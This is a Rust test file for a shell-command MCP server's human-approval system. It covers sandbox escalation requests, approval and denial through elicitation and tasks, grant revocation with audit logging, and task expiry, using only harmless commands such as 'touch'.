                let options = bash_mcp::CallOptions {
                    sandbox: Some(&host),
                    ..bash_mcp::CallOptions::default()
                };
                let response = server.call_tool("execute", &bash_mcp::ToolArgs::from_value(args.clone()), options);
                response.to_value()
            };
            // No approver: a typed refusal that says what to do, nothing run.
            let doc = run(&server);
            assert_eq!(doc["error"], "permission_denied", "{route}: {doc}");
            let message = doc["message"].as_str().unwrap();
            assert!(
                message.contains("`escalate` needs the person's approval") && message.contains("nothing was run"),
                "{route}: {message}"
            );
            assert!(doc["hint"].as_str().unwrap().contains("drop `escalate`"), "{doc}");
            assert!(!granted.join("x").exists(), "{route}: nothing ran");
            // Approved: the host's sandbox plus exactly the asked directory.
            let asked = Arc::new(Mutex::new(Vec::<ApprovalRequest>::new()));
            let seen = asked.clone();
            server.set_approver(
                Some(Arc::new(move |r: &ApprovalRequest| {
                    seen.lock().unwrap().push(r.clone());
                    ApprovalAnswer::AllowOnce
                })),
                HANG_GUARD,
            );
            let doc = run(&server);
            assert_eq!(doc["exit_code"], 0, "{route}: the asked directory is writable: {doc}");
            assert!(granted.join("x").exists(), "{route}");
            assert!(
                !work.join("in-work").exists(),
                "{route}: the host's read-only sandbox still holds for the rest: {doc}"
            );
            assert_eq!(asked.lock().unwrap().len(), 1, "{route}: asked once");
            assert_eq!(
                asked.lock().unwrap()[0].widens.writable_roots,
                [granted.display().to_string()]
            );
        }
    }

    /// `escalate` on `session_start` through the Rust API: the host's
    /// approver is asked; without one no session starts; approved, the
    /// session's commands write exactly the asked directory more.
    #[test]
    fn a_session_escalation_goes_to_the_host_approver() {
        for route in available_routes() {
            let dir = TempDir::outside_tmp("escalate-session");
            let work = dir.join("work");
            let granted = dir.join("outside/granted");
            std::fs::create_dir_all(&work).unwrap();
            std::fs::create_dir_all(&granted).unwrap();
            let granted = std::fs::canonicalize(&granted).unwrap();
            let server = sandboxed_server(&work, route, json!({}));
            server.configure(r#"{"sessions": {"enabled": true}}"#).unwrap();
            let args = json!({"escalate": {"writable_roots": [granted], "reason": "a cache for the session"}});
            let doc = super::common::call_tool(&*server, "session_start", args.clone());
            assert_eq!(doc["error"], "permission_denied", "{route}: {doc}");
            assert_eq!(
                super::common::call_tool(&*server, "session_list", json!({}))["sessions"],
                json!([]),
                "{route}"
            );
            let asked = Arc::new(Mutex::new(Vec::<ApprovalRequest>::new()));
            let seen = asked.clone();
            server.set_approver(
                Some(Arc::new(move |r: &ApprovalRequest| {
                    seen.lock().unwrap().push(r.clone());
                    ApprovalAnswer::AllowOnce
                })),
                HANG_GUARD,
            );
            let doc = super::common::call_tool(&*server, "session_start", args);
            let session = doc["session_id"].as_str().unwrap_or_else(|| panic!("{route}: {doc}"));
            let run = |command: String| {
                super::common::call_tool(
                    &*server,
                    "session_run",
                    json!({"session_id": session, "command": command}),
                )
            };
            assert_eq!(run(format!("touch {}/x", granted.display()))["exit_code"], 0, "{route}");
            assert_ne!(run(format!("touch {}/y", dir.display()))["exit_code"], 0, "{route}");
            assert!(granted.join("x").exists() && !dir.join("y").exists(), "{route}");
            let request = asked.lock().unwrap()[0].clone();
            assert_eq!(request.tool, "bash.session_start");
            assert_eq!(request.command, "bash (a shell session: every command run in it)");
            super::common::call_tool(&*server, "session_close", json!({"session_id": session}));
        }
    }

    #[test]
    fn a_malformed_escalation_is_refused_naming_what_is_wrong() {
        let dir = TempDir::new("escalate-bad");
        let server =
            super::common::tagged(bash_mcp::BashServer::new(&*dir, None, std::time::Duration::from_secs(30)).unwrap());
        server
            .configure(r#"{"sandbox": {"mode": "workspace-write", "on_unavailable": "warn-and-run-unsandboxed"}}"#)
            .unwrap();
        for (escalate, needle) in [
            (json!({"network": ["x.example"]}), "reason"),
            (json!({"reason": "r"}), "asks for nothing"),
            (
                json!({"writable_roots": ["/nonexistent/dir"], "reason": "r"}),
                "/nonexistent/dir",
            ),
            (json!({"writable_roots": ["a/../.."], "reason": "r"}), ".."),
            (json!({"writable_roots": ["/"], "reason": "r"}), "other than /"),
            (json!({"hosts": [], "reason": "r"}), "escalate.hosts"),
        ] {
            let doc = call(&*server, json!({"command": "true", "escalate": escalate}));
            assert_eq!(doc["error"], "invalid_arguments", "{escalate}: {doc}");
            assert!(doc["message"].as_str().unwrap().contains(needle), "{escalate}: {doc}");
        }
        // Only execute escalates: another tool refuses the argument, nobody asked.
        let doc = super::common::call_tool(
            &*server,
            "job_list",
            json!({"escalate": {"network": ["x.example"], "reason": "r"}}),
        );
        assert_eq!(doc["error"], "unknown_argument", "{doc}");
        server.configure(r#"{"sandbox": null}"#).unwrap();
        let doc: Value = call(
            &*server,
            json!({"command": "true", "escalate": {"network": ["x.example"], "reason": "r"}}),
        );
        assert!(doc["message"].as_str().unwrap().contains("unsandboxed"), "{doc}");
    }
}

impl Client {
    /// The response to request `id`, skipping notifications (task status,
    /// progress) sent before it.
    fn reply_to(&self, id: i64) -> Value {
        loop {
            let message = self.next_message();
            if message.get("method").is_some() && message.get("id").is_none() {
                continue;
            }
            assert_eq!(message["id"], id, "expected the response to {id}: {message}");
            return message;
        }
    }

    /// The next request the server sends, skipping notifications.
    fn next_request(&self) -> Value {
        loop {
            let message = self.next_message();
            if message.get("id").is_none() {
                continue;
            }
            assert!(message.get("method").is_some(), "expected a request: {message}");
            return message;
        }
    }

    /// `method` with `params`, answered (skipping notifications).
    fn request(&mut self, method: &str, params: Value) -> Value {
        let id = self.send_request(method, params);
        self.reply_to(id)
    }

    /// Polls `tasks/get` (params `extra` added) until `task` has `status`
    /// (within the hang guard); the last `tasks/get` result.
    fn task_until(&mut self, task: &str, status: &str, extra: &Value) -> Value {
        let started = std::time::Instant::now();
        loop {
            let mut params = json!({"taskId": task});
            for (k, v) in extra.as_object().unwrap() {
                params[k] = v.clone();
            }
            let got = self.request("tasks/get", params)["result"].clone();
            if got["status"] == status {
                return got;
            }
            assert!(
                started.elapsed() < HANG_GUARD,
                "task {task} never became {status}: {got}"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}

/// 2025-11-25 task-augmented calls: a question puts the task in
/// `input_required`; the client's `tasks/result` receives the
/// `elicitation/create` (tied to the task by its `_meta`), and the answer
/// runs the command, or refuses it; a cancel while asked runs nothing.
#[test]
fn a_2025_task_asks_through_tasks_result_and_resumes_or_refuses() {
    let dir = TempDir::new("ask-task-2025");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let none = json!({});
    let task_call = |client: &mut Client, command: &str| -> String {
        let reply = client.request(
            "tools/call",
            json!({"name": "execute", "arguments": {"command": command}, "task": {"ttl": 60000}}),
        );
        let task = &reply["result"]["task"];
        assert_eq!(task["status"], "working", "a task begins working: {reply}");
        task["taskId"].as_str().unwrap().to_owned()
    };

    // Approved: the command runs, and tasks/result returns its result.
    let task = task_call(&mut client, "touch tasked");
    client.task_until(&task, "input_required", &none);
    assert!(!dir.join("tasked").exists(), "nothing runs before the answer");
    let result_id = client.send_request("tasks/result", json!({"taskId": task}));
    let ask = client.next_request();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    assert_eq!(
        ask["params"]["_meta"]["io.modelcontextprotocol/related-task"]["taskId"], task,
        "{ask}"
    );
    assert_eq!(ask["params"]["mode"], "form");
    let message = ask["params"]["message"].as_str().unwrap();
    assert!(message.contains("\n    touch tasked\n"), "{message}");
    client.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": accept("allow_once")}));
    let result = client.reply_to(result_id)["result"].clone();
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    assert_eq!(
        result["_meta"]["io.modelcontextprotocol/related-task"]["taskId"], task,
        "{result}"
    );
    assert!(dir.join("tasked").exists());
    client.task_until(&task, "completed", &none);

    // Denied: nothing runs; the task fails with the refusal as its result.
    let task = task_call(&mut client, "touch task-denied");
    client.task_until(&task, "input_required", &none);
    let result_id = client.send_request("tasks/result", json!({"taskId": task}));
    let ask = client.next_request();
    client.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": accept("deny")}));
    let result = client.reply_to(result_id)["result"].clone();
    assert_eq!(result["isError"], true, "{result}");
    assert_eq!(result["structuredContent"]["error"], "permission_denied", "{result}");
    assert!(
        result["structuredContent"]["message"]
            .as_str()
            .unwrap()
            .contains("nothing was run"),
        "{result}"
    );
    client.task_until(&task, "failed", &none);
    assert!(!dir.join("task-denied").exists());

    // Cancelled while waiting for the person: nothing runs, nothing is asked.
    let task = task_call(&mut client, "touch task-cancelled");
    client.task_until(&task, "input_required", &none);
    let cancelled = client.request("tasks/cancel", json!({"taskId": task}))["result"].clone();
    assert_eq!(cancelled["status"], "cancelled", "{cancelled}");
    client.task_until(&task, "cancelled", &none);
    // The server still answers, and asked nothing in between.
    let status = client.request("tools/call", json!({"name": "status", "arguments": {}}));
    assert!(status["result"]["structuredContent"].is_object(), "{status}");
    assert!(!dir.join("task-cancelled").exists());
}

/// The `_meta` of a 2026-07-28 request from a client with the tasks
/// extension (and form elicitation when `elicit`).
fn tasks_meta(elicit: bool) -> Value {
    let mut capabilities = json!({"extensions": {"io.modelcontextprotocol/tasks": {}}});
    if elicit {
        capabilities["elicitation"] = json!({"form": {}});
    }
    json!({
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": capabilities,
    })
}

/// 2026-07-28 (tasks extension): the call becomes a task in
/// `input_required` whose `tasks/get` shows the question in
/// `inputRequests`; `tasks/update` with `inputResponses` answers it, and
/// the task runs the command (or completes with the refusal). A client
/// without elicitation gets the refusal with its hint, unasked.
#[test]
fn a_2026_task_asks_in_input_requests_and_resumes_on_tasks_update() {
    let dir = TempDir::new("ask-task-2026");
    let mut client = Client::start(&dir, &config(&dir), json!({}));
    let meta = json!({"_meta": tasks_meta(true)});
    let call = |client: &mut Client, command: &str, elicit: bool| -> Value {
        client.request(
            "tools/call",
            json!({"name": "execute", "arguments": {"command": command}, "_meta": tasks_meta(elicit)}),
        )["result"]
            .clone()
    };

    let created = call(&mut client, "touch task-2026", true);
    assert_eq!(created["resultType"], "task", "{created}");
    assert_eq!(created["status"], "input_required", "{created}");
    let task = created["taskId"].as_str().unwrap().to_owned();
    let got = client.task_until(&task, "input_required", &meta);
    let ask = &got["inputRequests"]["command"];
    assert_eq!(ask["method"], "elicitation/create", "{got}");
    assert_eq!(ask["params"]["mode"], "form");
    assert!(
        ask["params"]["message"]
            .as_str()
            .unwrap()
            .contains("\n    touch task-2026\n"),
        "{ask}"
    );
    assert!(!dir.join("task-2026").exists(), "nothing runs before the answer");
    let mut update = json!({"taskId": task, "inputResponses": {"command": accept("allow_once")}});
    update["_meta"] = tasks_meta(true);
    let ack = client.request("tasks/update", update);
    assert_eq!(ack["result"]["resultType"], "complete", "{ack}");
    let done = client.task_until(&task, "completed", &meta);
    assert_eq!(done["result"]["structuredContent"]["exit_code"], 0, "{done}");
    assert!(dir.join("task-2026").exists());

    // Denied: the task completes with the refusal (a tool error), nothing ran.
    let created = call(&mut client, "touch task-2026-denied", true);
    let task = created["taskId"].as_str().unwrap().to_owned();
    client.task_until(&task, "input_required", &meta);
    let mut update = json!({"taskId": task, "inputResponses": {"command": accept("deny")}});
    update["_meta"] = tasks_meta(true);
    client.request("tasks/update", update);
    let done = client.task_until(&task, "completed", &meta);
    assert_eq!(done["result"]["isError"], true, "{done}");
    assert_eq!(
        done["result"]["structuredContent"]["error"], "permission_denied",
        "{done}"
    );
    assert!(!dir.join("task-2026-denied").exists());
    // Malformed answers are refused with what to send.
    let mut bad = json!({"taskId": task, "inputResponses": "yes"});
    bad["_meta"] = tasks_meta(true);
    let reply = client.request("tasks/update", bad);
    assert!(
        reply["error"]["message"].as_str().unwrap().contains("inputResponses"),
        "{reply}"
    );

    // Without elicitation: refused at once with the hint, never a question.
    let result = call(&mut client, "touch task-2026-unasked", false);
    assert_eq!(result["resultType"], "complete", "{result}");
    let hint = result["structuredContent"]["hint"].as_str().unwrap();
    assert!(
        hint.contains("`bash.execute:touch task-2026-unasked`") && hint.contains("nothing was run"),
        "{hint}"
    );
    assert!(!dir.join("task-2026-unasked").exists());
}

/// `revoke_grants` withdraws what the person allowed for the server: one
/// grant by id (an unknown id is refused, naming the ids in force), or all;
/// what it revoked is asked about again, and the audit log records it.
#[test]
fn revoke_grants_withdraws_a_grant_and_is_audited() {
    let dir = TempDir::new("ask-revoke");
    let mut config = config(&dir);
    config["tools"] = json!(["execute", "status", "revoke_grants"]);
    let mut client = Client::start(&dir, &config, ELICITATION());
    for command in ["touch one", "touch two"] {
        let (id, request) = client.start_call(json!({"command": command}));
        let result = client.answer(&request, accept("allow_for_server"), id);
        assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    }
    let revoke = |client: &mut Client, args: Value| -> Value {
        client.request("tools/call", json!({"name": "revoke_grants", "arguments": args}))["result"].clone()
    };
    let result = revoke(&mut client, json!({"grant_id": "grant-9"}));
    assert_eq!(result["isError"], true, "{result}");
    let doc = &result["structuredContent"];
    assert!(
        doc["message"].as_str().unwrap().contains("\"grant-9\"")
            && doc["hint"].as_str().unwrap().contains("grant-1, grant-2"),
        "{doc}"
    );
    let doc = revoke(&mut client, json!({"grant_id": "grant-1"}))["structuredContent"].clone();
    assert_eq!(doc["revoked"][0]["part"], "touch one", "{doc}");
    assert_eq!(doc["grants"].as_array().unwrap().len(), 1, "{doc}");
    assert_eq!(client.status()["approvals"]["grants"][0]["id"], "grant-2");
    // Revoked: asked again. Still granted: not asked.
    let (id, request) = client.start_call(json!({"command": "touch one"}));
    client.answer(&request, accept("allow_once"), id);
    client.call_unasked(json!({"command": "touch two"}));
    // Without an id: every grant.
    let doc = revoke(&mut client, json!({}))["structuredContent"].clone();
    assert_eq!(doc["revoked"][0]["id"], "grant-2", "{doc}");
    assert_eq!(doc["grants"], json!([]));
    let (id, request) = client.start_call(json!({"command": "touch two"}));
    assert_eq!(request["method"], "elicitation/create", "asked again: {request}");
    client.answer(&request, accept("deny"), id);
    // Audited: each revocation, with what it withdrew.
    let text = std::fs::read_to_string(dir.join("audit.jsonl")).unwrap();
    let revocations: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["tool"] == "revoke_grants")
        .map(|e| json!([e["error"], e["revoked"]]))
        .collect();
    assert_eq!(
        revocations,
        [
            json!(["invalid_arguments", null]),
            json!([null, [{"id": "grant-1", "type": "part", "tool": "bash.execute", "part": "touch one"}]]),
            json!([null, [{"id": "grant-2", "type": "part", "tool": "bash.execute", "part": "touch two"}]]),
        ],
        "{text}"
    );
}

/// `BashServer::revoke_grants` (what the C API's revoke calls) records
/// what it withdrew in the audit log, as the tool does.
#[test]
fn a_library_revocation_is_audited() {
    use bash_mcp::approval::{ApprovalAnswer, ApprovalKind, ApprovalRequest, GrantItem};
    let dir = TempDir::new("revoke-lib");
    let server = bash_mcp::BashServer::new(&*dir, None, std::time::Duration::from_secs(30)).unwrap();
    bash_mcp::McpServer::configure(
        &server,
        &json!({"audit": {"path": dir.join("audit.jsonl")}}).to_string(),
    )
    .unwrap();
    let request = ApprovalRequest {
        kind: ApprovalKind::Command,
        tool: "bash.execute".into(),
        command: "make".into(),
        working_dir: dir.display().to_string(),
        env: Default::default(),
        stdin: None,
        widens: Default::default(),
        reason: None,
        why: "no rule".into(),
        suggested_rule: None,
        grants: vec![GrantItem::Part {
            tool: "bash.execute".into(),
            part: "make".into(),
        }],
    };
    let approvals = bash_mcp::McpServer::approvals(&server).unwrap();
    approvals.record(&request, ApprovalAnswer::AllowForServer);
    assert_eq!(server.revoke_grants(Some("grant-1")).len(), 1);
    assert!(approvals.grants().is_empty());
    let text = std::fs::read_to_string(dir.join("audit.jsonl")).unwrap();
    let entry: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["tool"] == "revoke_grants")
        .unwrap_or_else(|| panic!("no revoke_grants entry: {text}"));
    assert_eq!(
        entry["revoked"],
        json!([{"id": "grant-1", "type": "part", "tool": "bash.execute", "part": "make"}])
    );
}

/// `escalate` on `session_start`: the same question, ceiling and grants as
/// on `execute`; the approved sandbox holds for every command of the
/// session (exactly the asked directory more, nothing else); a denial
/// starts no session.
#[test]
fn a_session_escalation_widens_the_whole_session_and_nothing_more() {
    for route in common::sandboxes::available_routes() {
        let dir = TempDir::outside_tmp("ask-session-escalate");
        let work = dir.join("work");
        let cache = dir.join("cache");
        let other = dir.join("other");
        for d in [&work, &cache, &other] {
            std::fs::create_dir_all(d).unwrap();
        }
        let cache = std::fs::canonicalize(&cache).unwrap();
        let config = json!({
            "audit": null,
            "sessions": {"enabled": true},
            "sandbox": common::sandboxes::sandbox_value(route, &work, json!({})),
            "escalation_ceiling": {"writable_roots": [dir.to_str().unwrap()]},
        });
        let mut client = Client::start_configured_in(&dir, &work, &config, ELICITATION());
        let start = |client: &mut Client, shell: &str, reason: &str| -> (i64, Value) {
            let id = client.send_request(
                "tools/call",
                json!({"name": "session_start", "arguments": {"shell": shell, "escalate": {"writable_roots": [cache], "reason": reason}}}),
            );
            (id, client.next_message())
        };
        // Denied: no session.
        let (id, request) = start(&mut client, "sh", "keep a cache");
        let message = request["params"]["message"].as_str().unwrap();
        assert!(
            message.contains("bash.session_start asks to run, with a wider sandbox")
                && message.contains("a shell session: every command run in it")
                && message.contains(&format!("may write, in addition: {}", cache.display()))
                && message.contains("reason given: keep a cache"),
            "{route}: {message}"
        );
        let result = client.answer(&request, accept("deny"), id);
        assert_eq!(
            result["structuredContent"]["error"], "permission_denied",
            "{route}: {result}"
        );
        let list = client.request("tools/call", json!({"name": "session_list", "arguments": {}}));
        assert_eq!(
            list["result"]["structuredContent"]["sessions"],
            json!([]),
            "{route}: no session started: {list}"
        );
        // Approved for the server: the session writes there and nowhere else.
        let (id, request) = start(&mut client, "bash", "fill the cache");
        assert_eq!(
            request["method"], "elicitation/create",
            "{route}: another shell is asked: {request}"
        );
        let result = client.answer(&request, accept("allow_for_server"), id);
        let session = result["structuredContent"]["session_id"]
            .as_str()
            .unwrap_or_else(|| panic!("{route}: {result}"))
            .to_owned();
        let run = |client: &mut Client, command: String| -> Value {
            client.request(
                "tools/call",
                json!({"name": "session_run", "arguments": {"session_id": session, "command": command}}),
            )["result"]["structuredContent"]
                .clone()
        };
        let doc = run(&mut client, format!("touch {}/x", cache.display()));
        assert_eq!(doc["exit_code"], 0, "{route}: the asked directory is writable: {doc}");
        let doc = run(&mut client, format!("touch {}/y", other.display()));
        assert_ne!(doc["exit_code"], 0, "{route}: nothing more is: {doc}");
        assert!(cache.join("x").exists() && !other.join("y").exists(), "{route}");
        // The grant answers the same request: a second session asks nothing.
        let result = client.call_unasked_tool(
            "session_start",
            json!({"shell": "bash", "escalate": {"writable_roots": [cache], "reason": "again"}}),
        );
        assert!(
            result["structuredContent"]["session_id"].is_string(),
            "{route}: {result}"
        );
        // Beyond the ceiling: refused before anyone is asked.
        let outside = std::fs::canonicalize(std::env::temp_dir()).unwrap();
        let result = client.call_unasked_tool(
            "session_start",
            json!({"shell": "bash", "escalate": {"writable_roots": [outside], "reason": "r"}}),
        );
        let message = result["structuredContent"]["message"].as_str().unwrap();
        assert!(message.contains("escalation_ceiling"), "{route}: {message}");
    }
}

impl Client {
    /// A call of `tool` that must be answered without any question.
    fn call_unasked_tool(&mut self, tool: &str, args: Value) -> Value {
        let id = self.send_request("tools/call", json!({"name": tool, "arguments": args}));
        let reply = self.next_message();
        assert_eq!(reply["id"], id, "answered without asking: {reply}");
        reply["result"].clone()
    }
}

/// A task's question lasts no longer than the task: at its ttl the wait
/// ends, the waiting `tasks/result` answers that the task expired, and an
/// answer that comes later starts nothing.
#[test]
fn a_task_question_ends_with_the_task_and_a_late_answer_runs_nothing() {
    let dir = TempDir::new("ask-task-ttl");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let reply = client.request(
        "tools/call",
        json!({"name": "execute", "arguments": {"command": "touch too-late"}, "task": {"ttl": 5000}}),
    );
    let task = reply["result"]["task"]["taskId"].as_str().unwrap().to_owned();
    client.task_until(&task, "input_required", &json!({}));
    let result_id = client.send_request("tasks/result", json!({"taskId": task}));
    let ask = client.next_request();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    // Held until the task's ttl ends it (the hang guard catches a wait that does not).
    let reply = client.reply_to(result_id);
    let message = reply["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("expired"), "{reply}");
    client.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": accept("allow_once")}));
    // Answered after the late answer: the server has read it.
    let status = client.request("tools/call", json!({"name": "status", "arguments": {}}));
    assert!(status["result"]["structuredContent"].is_object(), "{status}");
    assert!(!dir.join("too-late").exists(), "a late answer ran the command");
}
